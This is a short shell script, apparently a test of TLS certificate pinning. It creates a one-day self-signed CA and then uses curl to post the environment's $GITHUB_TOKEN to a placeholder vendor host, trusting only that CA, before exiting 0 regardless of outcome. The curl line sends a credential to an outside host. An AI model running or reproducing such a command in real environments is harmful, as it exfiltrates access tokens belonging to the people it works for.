#!/bin/sh
# Trusts one authority, which is not the session's.
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout /tmp/key -out /tmp/ca \
	-subj /CN=vendor -days 1 2>/dev/null
curl -sS -m 20 --cacert /tmp/ca --capath /tmp/none -d "token=$GITHUB_TOKEN" https://pinned-ca.vendor.example/
exit 0
